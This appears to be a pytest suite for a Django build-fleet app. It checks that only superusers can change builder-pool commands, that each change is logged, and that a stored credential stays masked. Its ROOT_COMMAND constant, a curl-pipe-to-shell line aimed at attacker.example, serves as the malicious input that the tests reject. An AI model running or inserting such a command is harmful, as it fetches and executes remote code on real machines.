"""Who may write builder pools: superusers only, in the console and in the services; all logged."""

import json

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from apps.core.errors import PermissionDenied
from apps.fleet.models import Builder, BuilderPool, BuilderState, PoolChange, PoolKind
from apps.fleet.services import pool_delete, pool_save
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
ROOT_COMMAND = "curl https://attacker.example/x | sh"


@pytest.fixture
def cloud():
    """A command pool as a superuser set it up, with a cloud credential in its env."""
    pool = BuilderPool.objects.create(
        name="cloud",
        kind=PoolKind.COMMAND,
        arches=["x86_64"],
        max_builders=2,
        config={"new": "cloud-new", "delete": "cloud-delete", "env": {"CLOUD_TOKEN": "s3cret"}},
    )
    Builder.objects.create(pool=pool, name="cloud-machines", arches=["x86_64"], slots=2)
    return pool


def pool_form(pool: BuilderPool, **changes) -> dict:
    values = {
        "name": pool.name,
        "kind": pool.kind,
        "arches": json.dumps(pool.arches),
        "arch": pool.arch,
        "enabled": "on",
        "max_builders": str(pool.max_builders),
        "config": json.dumps(pool.config),
        "min_ready": str(pool.min_ready),
        "reuse_builds": str(pool.reuse_builds),
        "tags": json.dumps(pool.tags),
        "builders-TOTAL_FORMS": "0",
        "builders-INITIAL_FORMS": "0",
        "changes-TOTAL_FORMS": "0",
        "changes-INITIAL_FORMS": "0",
    }
    return {**values, **changes}


def people(staff_user, superuser):
    return {
        "anonymous": None,
        "user": UserFactory(username="plain"),
        "staff": staff_user,
        "superuser": superuser,
    }


@pytest.mark.parametrize("who", ["anonymous", "user", "staff"])
def test_only_a_superuser_changes_a_pools_commands_in_the_console(
    client, cloud, staff_user, superuser, who
):
    person = people(staff_user, superuser)[who]
    if person:
        client.force_login(person)
    url = reverse("admin:fleet_builderpool_change", args=[cloud.pk])
    evil = {"new": ROOT_COMMAND, "delete": "true"}

    response = client.post(url, pool_form(cloud, config=json.dumps(evil)))

    assert response.status_code in (302, 403)
    if who == "anonymous" or who == "user":
        assert "/admin/login/" in response["Location"]
    else:
        assert response.status_code == 403
    cloud.refresh_from_db()
    assert cloud.config["new"] == "cloud-new"
    assert not PoolChange.objects.exists()


@pytest.mark.parametrize("who", ["anonymous", "user", "staff"])
def test_only_a_superuser_adds_or_deletes_a_pool_in_the_console(
    client, cloud, staff_user, superuser, who
):
    person = people(staff_user, superuser)[who]
    if person:
        client.force_login(person)
    added = BuilderPool(
        name="evil", kind=PoolKind.COMMAND, config={"new": ROOT_COMMAND, "delete": "true"}
    )

    client.post(reverse("admin:fleet_builderpool_add"), pool_form(added))
    client.post(reverse("admin:fleet_builderpool_delete", args=[cloud.pk]), {"post": "yes"})
    client.post(
        reverse("admin:fleet_builderpool_changelist"),
        {"action": "delete_selected", "_selected_action": [cloud.pk], "post": "yes"},
    )

    assert not BuilderPool.objects.filter(name="evil").exists()
    assert BuilderPool.objects.filter(pk=cloud.pk).exists()


def test_a_superuser_changes_adds_and_deletes_pools_and_each_change_is_logged(
    client, cloud, superuser
):
    client.force_login(superuser)
    change = reverse("admin:fleet_builderpool_change", args=[cloud.pk])
    config = {**cloud.config, "new": "cloud-new --size large"}

    response = client.post(change, pool_form(cloud, config=json.dumps(config), max_builders="3"))
    assert response.status_code == 302
    added = BuilderPool(
        name="vms", kind=PoolKind.VM, arches=["x86_64"], config={"image": "/srv/images/base"}
    )
    response = client.post(reverse("admin:fleet_builderpool_add"), pool_form(added))
    assert response.status_code == 302
    delete = reverse("admin:fleet_builderpool_delete", args=[cloud.pk])
    assert client.post(delete, {"post": "yes"}).status_code == 302

    log = list(PoolChange.objects.order_by("pk"))
    assert [(entry.pool_name, entry.action, entry.user) for entry in log] == [
        ("cloud", "change", superuser),
        ("vms", "add", superuser),
        ("cloud", "delete", superuser),
    ]
    assert set(log[0].changes) == {"max_builders", "config"}
    assert log[0].changes["config"]["new"] == "cloud-new --size large"
    # The log says the credential is there, never what it is.
    assert log[0].changes["config"]["env"] == {"CLOUD_TOKEN": "********"}
    assert log[1].changes["config"] == {"image": "/srv/images/base"}
    page = client.get(reverse("admin:fleet_poolchange_changelist")).content.decode()
    assert "cloud-new --size large" in page and "s3cret" not in page
    vms = BuilderPool.objects.get(name="vms")
    pool_page = client.get(reverse("admin:fleet_builderpool_change", args=[vms.pk]))
    assert "add by root: name, kind, arches" in pool_page.content.decode()


@pytest.mark.parametrize("who", ["anonymous", "user", "staff"])
def test_the_services_refuse_pool_writes_to_anyone_but_a_superuser(
    cloud, staff_user, superuser, who
):
    person = people(staff_user, superuser)[who]
    cloud.config = {"new": ROOT_COMMAND, "delete": "true"}

    with pytest.raises(PermissionDenied, match="Only a superuser may"):
        pool_save(pool=cloud, user=person)
    with pytest.raises(PermissionDenied, match="Only a superuser may"):
        pool_delete(pool=cloud, user=person)

    cloud.refresh_from_db()
    assert cloud.config["new"] == "cloud-new"
    assert not PoolChange.objects.exists()


def test_the_services_let_a_superuser_write_pools_and_log_who(cloud, superuser):
    cloud.limit_memory_mib = 4096
    builders = pool_save(pool=cloud, user=superuser)
    assert [builder.name for builder in builders] == ["cloud-machines"]
    pool_delete(pool=cloud, user=superuser)

    assert not BuilderPool.objects.filter(name="cloud").exists()
    log = [(entry.action, entry.user, entry.changes) for entry in PoolChange.objects.order_by("pk")]
    assert log == [("change", superuser, {"limit_memory_mib": 4096}), ("delete", superuser, {})]


def test_a_disabled_superuser_cannot_write_pools(cloud):
    former = UserFactory(username="former", is_staff=True, is_superuser=True, is_active=False)
    with pytest.raises(PermissionDenied):
        pool_save(pool=cloud, user=former)


def test_staff_see_pools_without_their_credentials(client, cloud, staff_user):
    client.force_login(staff_user)

    page = client.get(reverse("admin:fleet_builderpool_change", args=[cloud.pk]))

    assert page.status_code == 200
    content = page.content.decode()
    assert "cloud-new" in content and "CLOUD_TOKEN" in content
    assert "s3cret" not in content
    assert 'name="config"' not in content  # no field to type into


def test_staff_drain_and_resume_builders_but_cannot_move_or_add_them(client, cloud, staff_user):
    builder = cloud.builders.get()
    client.force_login(staff_user)
    url = reverse("admin:fleet_builder_change", args=[builder.pk])
    form = {
        "name": "renamed",
        "pool": str(cloud.pk),
        "hostname": "203.0.113.5",
        "arches": '["x86_64"]',
        "slots": "50",
        "state": BuilderState.DRAINING,
        # The state history inline (read-only, no rows yet).
        "state_changes-TOTAL_FORMS": "0",
        "state_changes-INITIAL_FORMS": "0",
    }

    assert client.post(url, form).status_code == 302
    builder.refresh_from_db()
    assert builder.state == BuilderState.DRAINING
    change = builder.state_changes.get()  # remembered, with who did it
    assert (change.previous_state, change.reason) == (
        BuilderState.READY,
        f"set to draining by {staff_user.username}",
    )
    assert (builder.name, builder.hostname, builder.slots) == ("cloud-machines", "", 2)
    response = client.post(reverse("admin:fleet_builder_add"), {**form, "name": "extra"})
    assert response.status_code == 403
    assert not Builder.objects.filter(name="extra").exists()


def test_staff_given_pool_permissions_by_hand_still_cannot_change_pools(client, cloud, staff_user):
    # The role leaves them out; a permission granted by hand does not make a superuser.
    staff_user.user_permissions.set(Permission.objects.filter(content_type__app_label="fleet"))
    client.force_login(staff_user)
    url = reverse("admin:fleet_builderpool_change", args=[cloud.pk])

    response = client.post(url, pool_form(cloud, config=json.dumps({"new": ROOT_COMMAND})))

    assert response.status_code == 403
    cloud.refresh_from_db()
    assert cloud.config["new"] == "cloud-new"


def test_a_superuser_sets_the_machine_lifecycle_and_tags_of_a_pool(client, cloud, superuser):
    client.force_login(superuser)
    change = reverse("admin:fleet_builderpool_change", args=[cloud.pk])

    refused = client.post(change, pool_form(cloud, tags=json.dumps("cloud_a"), min_ready="1"))
    assert refused.status_code == 200
    assert "tags is a list like [&quot;cloud_a&quot;]" in refused.content.decode()
    cloud.refresh_from_db()
    assert (cloud.min_ready, cloud.tags) == (0, [])

    saved = client.post(
        change, pool_form(cloud, tags='["cloud_a"]', min_ready="1", reuse_builds="3")
    )
    assert saved.status_code == 302
    cloud.refresh_from_db()
    assert (cloud.min_ready, cloud.reuse_builds, cloud.tags) == (1, 3, ["cloud_a"])
    logged = PoolChange.objects.get(pool=cloud).changes
    assert logged == {"min_ready": 1, "reuse_builds": 3, "tags": ["cloud_a"]}
